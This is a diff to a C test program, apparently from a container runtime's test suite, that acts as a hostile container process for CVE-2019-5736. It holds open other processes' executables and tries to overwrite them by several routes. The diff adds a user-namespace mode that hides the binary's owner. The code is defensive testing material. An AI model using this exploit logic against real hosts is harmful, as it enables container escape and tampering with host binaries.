@@ -1,9 +1,12 @@
 /* SPDX-License-Identifier: LGPL-2.1-or-later */
 /*
- * attack_overwriter PROGRAM...: the hostile process of a container that wants to replace the runtime's own binary on the host
+ * attack_overwriter [-u] PROGRAM...: the hostile process of a container that wants to replace the runtime's own binary on the host
  * (CVE-2019-5736). Holds open the executable of every process that isn't one of PROGRAMs, and then tries to write to it: directly,
  * through /proc/self/fd, after a remount, through a new mount of it. Prints "caught" for an executable that it holds, "WROTE" when
  * a byte could be written, and ends on SIGTERM.
+ *
+ * -u: a child does this, while the first process goes into a user namespace below that of the container, in which only the container's
+ * user 1 has an ID: whoever asks that process for its mapping is told that the owner of the binary isn't there.
  */
 #include <fcntl.h>
 #include <signal.h>
@@ -12,9 +15,11 @@
 #include <string.h>
 #include <dirent.h>
 #include <errno.h>
+#include <sched.h>
 #include <sys/mount.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #ifndef OPEN_TREE_CLONE
@@ -22,13 +27,51 @@
 #endif
 
 static volatile sig_atomic_t done;
-static int caught[4096];
+static int caught[4096], pids[4096];
 static size_t n;
 
 static void stop(int sig)
 {
 	(void)sig;
 	done = 1;
+}
+
+static void write_map(int pid, const char *name)
+{
+	char path[64];
+	int fd;
+
+	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
+	fd = open(path, O_WRONLY | O_CLOEXEC);
+	if (fd < 0 || write(fd, "0 1 1", 5) < 0)
+		perror(path);
+	close(fd);
+}
+
+/* Returns in the child, when its parent is in the user namespace. */
+static void hide_the_owner(void)
+{
+	int ready[2], parent = getpid(), child;
+	char byte;
+
+	if (pipe2(ready, O_CLOEXEC) < 0 || (child = fork()) < 0)
+		exit(1);
+	if (child == 0) {
+		if (read(ready[0], &byte, 1) != 1)
+			exit(1);
+		write_map(parent, "gid_map");
+		write_map(parent, "uid_map");
+		return;
+	}
+	signal(SIGTERM, stop);
+	if (unshare(CLONE_NEWUSER) < 0 || write(ready[1], "r", 1) != 1)
+		perror("unshare");
+	while (!done)
+		pause();
+	kill(child, SIGTERM);
+	while (waitpid(child, NULL, 0) < 0 && errno == EINTR)
+		;
+	exit(0);
 }
 
 static void hold(int pid, char **programs)
@@ -48,9 +91,17 @@ static void hold(int pid, char **programs)
 	fd = open(path, O_RDONLY | O_CLOEXEC);
 	if (fd < 0)
 		return;
-	if (n == 0 || n % 64 == 0)
-		printf("caught %s\n", target);
-	caught[n++ % 4096] = fd;
+	printf("caught %s\n", target);
+	pids[n] = pid;
+	caught[n++] = fd;
+}
+
+static int held(int pid)
+{
+	for (size_t i = 0; i < n; i++)
+		if (pids[i] == pid)
+			return 1;
+	return 0;
 }
 
 static void write_to(const char *path, const char *how)
@@ -88,11 +139,16 @@ static void attack(int fd)
 
 int main(int argc, char **argv)
 {
-	int self = getpid();
+	int self;
 
 	if (argc < 2)
 		return 2;
 	setvbuf(stdout, NULL, _IOLBF, 0);
+	if (strcmp(argv[1], "-u") == 0) {
+		hide_the_owner();
+		argv++;
+	}
+	self = getpid();
 	signal(SIGTERM, stop);
 	printf("waiting\n");
 	while (!done) {
@@ -100,7 +156,7 @@ int main(int argc, char **argv)
 		struct dirent *entry;
 
 		while (proc != NULL && (entry = readdir(proc)) != NULL)
-			if (atoi(entry->d_name) > 0 && atoi(entry->d_name) != self && n < 4000)
+			if (atoi(entry->d_name) > 0 && atoi(entry->d_name) != self && n < 4000 && !held(atoi(entry->d_name)))
 				hold(atoi(entry->d_name), argv + 1);
 		if (proc != NULL)
 			closedir(proc);
